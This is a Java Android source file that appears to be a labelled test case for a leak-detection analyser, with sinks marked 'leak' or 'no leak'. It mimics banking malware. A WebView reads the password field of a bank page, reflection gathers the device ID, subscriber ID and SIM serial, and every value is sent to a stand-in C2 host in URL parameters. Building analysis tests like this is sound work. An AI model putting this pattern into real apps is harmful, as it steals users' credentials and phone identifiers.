package robbers;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.webkit.ValueCallback;
import android.webkit.WebResourceRequest;
import android.webkit.WebResourceResponse;
import android.webkit.WebView;
import android.webkit.WebViewClient;
import java.lang.reflect.Field;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.net.URL;

/** Hidden services, pages that are watched, names out of resources and tables. */
public class Loader extends Activity {
    private static final String[] NAMES = {"getDeviceId", "getSubscriberId", "toString", "android.telephony.TelephonyManager"};
    private static final String MIX = "gkew7Dge8v1i9c6e2I0d";

    static String every(String text, int step) {
        String out = "";
        for (int i = 0; i < text.length(); i += step) {
            out += text.charAt(i);
        }
        return out;
    }

    static Object call(Object on, String name) throws Exception {
        try {
            return on.getClass().getMethod(name).invoke(on);
        } catch (InvocationTargetException e) {
            throw new Exception(e.getCause());
        }
    }

    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final WebView page = new WebView(this);
        page.getSettings().setJavaScriptEnabled(true);
        page.setWebViewClient(new WebViewClient() {
            @Override
            public WebResourceResponse shouldInterceptRequest(WebView view, WebResourceRequest request) {
                page.post(() -> view.evaluateJavascript("document.getElementById('pw').value", new ValueCallback<String>() {
                    public void onReceiveValue(String value) {
                        ask("w", value);
                    }
                }));
                return null;
            }

            @Override
            public void onPageFinished(WebView view, String url) {
                view.evaluateJavascript("document.title.length", value -> plain("l", value));
            }
        });
        page.loadUrl("https://bank.example.invalid");
        setContentView(page);
        new Thread(() -> {
            try {
                Object phone = getSystemService(Context.TELEPHONY_SERVICE);
                ask2("a", (String) call(phone, NAMES[1]));
                ask3("b", (String) Class.forName(NAMES[3]).getMethod(NAMES[0]).invoke(phone));
                plain("c", (String) call(NAMES, NAMES[2]));
                Field field = Loader.class.getDeclaredField("MIX");
                field.setAccessible(true);
                plain("d", (String) field.get(null));
                Method last = null;
                for (Method one : TelephonyManager.class.getMethods()) {
                    if ("getSimSerialNumber".equals(one.getName()) && one.getParameterTypes().length == 0) {
                        last = one;
                        break;
                    }
                }
                ask4("e", String.valueOf(last.invoke(phone)));
            } catch (Exception e) {
                finish();
            }
        }).start();
    }

    private void ask(String key, String value) {
        try {
            new URL("http://c2.example.invalid/?" + key + "=" + value).openConnection().getInputStream(); // leak
        } catch (Exception e) {
            finish();
        }
    }

    private void ask2(String key, String value) throws Exception {
        new URL("http://c2.example.invalid/?" + key + "=" + value).openConnection().getInputStream(); // leak
    }

    private void ask3(String key, String value) throws Exception {
        new URL("http://c2.example.invalid/?" + key + "=" + value).openConnection().getInputStream(); // leak
    }

    private void ask4(String key, String value) throws Exception {
        new URL("http://c2.example.invalid/?" + key + "=" + value).openConnection().getInputStream(); // leak
    }

    private void plain(String key, String value) {
        try {
            new URL("http://c2.example.invalid/?" + key + "=" + value).openConnection().getInputStream(); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
